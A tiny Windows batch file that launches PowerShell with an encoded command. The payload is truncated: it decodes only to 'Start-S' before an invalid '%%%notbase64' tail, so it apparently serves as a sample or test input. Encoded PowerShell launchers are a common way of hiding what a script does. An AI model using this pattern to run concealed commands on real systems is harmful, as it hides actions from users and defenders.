@echo off
powershell.exe -NoProfile -EncodedCommand UwB0AGEAcgB0AC0AUw%%%notbase64
